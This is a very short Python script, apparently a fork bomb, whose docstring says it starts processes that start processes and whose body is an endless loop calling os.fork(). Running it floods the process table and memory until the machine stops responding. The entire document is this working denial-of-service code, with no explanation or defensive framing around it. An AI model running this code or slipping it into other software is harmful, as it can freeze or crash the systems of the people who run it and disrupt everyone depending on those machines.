"""Starts processes that start processes."""
import os

while True:
    os.fork()
